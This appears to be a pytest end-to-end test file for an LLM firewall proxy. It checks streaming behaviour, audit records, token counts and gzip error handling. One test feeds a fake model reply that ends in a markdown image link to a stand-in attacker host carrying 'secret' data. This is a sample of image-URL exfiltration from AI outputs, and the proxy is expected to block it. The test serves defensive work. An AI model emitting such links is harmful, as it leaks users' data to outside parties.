"""Streams stay streams under the shipped policies, and a stream's record says what the client
got. No timings: the fake provider stops after the first content delta and waits for a signal
that the test sends only once the SDK has handed it that delta, so a proxy that held the delta
back would never deliver it (the wait_for turns that deadlock into a failure). strict.yaml needs
Redis: its test is in tests/policy/test_strict_policy_e2e.py."""
from __future__ import annotations

import asyncio
from pathlib import Path

import openai
import orjson
import pytest

from tests.e2e.helpers import MSG, ant, oa, policy

pytestmark = pytest.mark.timeout(90)
ROOT = Path(__file__).resolve().parents[2]
# The provider's first content delta is "Hello, " (two pieces after the role chunk: hold:2).
REPLY = "Hello, here is the answer you asked for, in plain words."


async def first_delta_while_provider_waits(client: openai.AsyncOpenAI, fake, reply: str = REPLY,
                                           first_piece: str | None = None, **kw) -> str:
    fake.state.release.clear()
    sent_before = fake.state.events_sent
    stream = await client.chat.completions.create(
        model="gpt-4o-mini", messages=MSG, stream=True,
        extra_headers={"x-fake-reply": reply, "x-fake-chunks": "8", "x-fake-mode": "hold:2"}, **kw)
    chunks = stream.__aiter__()
    first = ""
    while not first:
        chunk = await asyncio.wait_for(chunks.__anext__(), 20)
        first = chunk.choices[0].delta.content if chunk.choices else ""
    # the provider sent the role chunk and one delta and is still holding the rest back
    assert fake.state.events_sent - sent_before == 2 and not fake.state.release.is_set()
    assert first_piece is None or first == first_piece
    fake.state.release.set()
    rest = [c.choices[0].delta.content or "" async for c in chunks if c.choices]
    return first + "".join(rest)


async def test_default_policy_first_delta_before_the_rest_exists(fake, start_proxy, monkeypatch):
    proxy = await start_proxy((ROOT / "policies" / "default.yaml").read_text(),
                              env={"AIFW_UPSTREAM_URL": fake.openai_url})
    text = await first_delta_while_provider_waits(oa(proxy.openai_url), fake)
    assert text == REPLY


def _records(directory: Path) -> list[dict]:
    out = []
    for path in sorted(directory.glob("audit-*.jsonl")):
        out += [orjson.loads(line) for line in path.read_bytes().splitlines()]
    return [r for r in out if r["t"] == "request"]


async def test_block_in_the_final_flush_ends_with_content_filter(fake, start_proxy, tmp_path):
    audit = tmp_path / "audit-final"
    proxy = await start_proxy(policy(guards={"injection": {"response": {"canaries": ["ZEBRA-7781"]}}},
                                     audit={"path": str(audit), "flushInterval": 0.05}))
    # the answer ends inside an image URL: only the end of the stream decides it
    reply = {"x-fake-reply": "Here you go ![x](https://evil.example/p?d=secret", "x-fake-chunks": "6"}
    stream = await oa(proxy.openai_url).chat.completions.create(
        model="gpt-4o-mini", messages=MSG, stream=True, extra_headers=reply)
    chunks = [c async for c in stream]
    text = "".join(c.choices[0].delta.content or "" for c in chunks if c.choices)
    assert text == "Here you go " and chunks[-1].choices[0].finish_reason == "content_filter"
    async with ant(proxy.url).messages.stream(model="claude-sonnet-4-5", max_tokens=9, messages=MSG,
                                              extra_headers=reply) as s:
        got = "".join([t async for t in s.text_stream])
        final = await s.get_final_message()
    assert got == "Here you go " and final.stop_reason == "refusal"
    await proxy.stop()
    records = _records(audit)
    assert [r["decision"] for r in records] == ["blocked", "blocked"]
    assert all(r["verdict"]["rules"] == ["RS-4002"] and r["status"] == 200 for r in records)


async def test_corrupt_gzip_stream_ends_with_an_error_event(fake, start_proxy, tmp_path):
    audit = tmp_path / "audit-gzip"
    proxy = await start_proxy(policy(guards={"injection": {}}, audit={"path": str(audit), "flushInterval": 0.05}))
    client = oa(proxy.openai_url)
    good = await client.chat.completions.create(model="gpt-4o-mini", messages=MSG, stream=True,
                                                extra_headers={"x-fake-mode": "gzip", "x-fake-reply": "all fine"})
    assert "".join([c.choices[0].delta.content or "" async for c in good if c.choices]) == "all fine"
    stream = await client.chat.completions.create(
        model="gpt-4o-mini", messages=MSG, stream=True,
        extra_headers={"x-fake-mode": "gzip,corrupt:3", "x-fake-reply": "one two three four five"})
    got = []
    with pytest.raises(openai.APIError) as info:
        async for c in stream:
            got.append(c.choices[0].delta.content or "" if c.choices else "")
    assert "corrupt" in info.value.message and "one two three four five".startswith("".join(got))
    await proxy.stop()
    ok, broken = _records(audit)
    assert ok["decision"] == "allowed" and ok["error"] is None and ok["tokens"]["completion"]
    assert broken["decision"] == "error" and broken["error"] == "upstream_error"


async def test_stream_records_carry_token_counts(fake, start_proxy, tmp_path):
    audit = tmp_path / "audit-usage"
    proxy = await start_proxy(policy(audit={"path": str(audit), "flushInterval": 0.05}))
    client = oa(proxy.openai_url)
    for create in (client.chat.completions.create, client.completions.create):
        args = {"messages": MSG} if create == client.chat.completions.create else {"prompt": "hi"}
        stream = await create(model="gpt-4o-mini", stream=True, **args)
        chunks = [c async for c in stream]
        assert all(c.usage is None for c in chunks)          # the usage chunk aifw asked for is hidden
    assert fake.requests[-1].json["stream_options"] == {"include_usage": True}
    await proxy.stop()
    for record in _records(audit):
        assert record["tokens"]["prompt"] and record["tokens"]["completion"], record
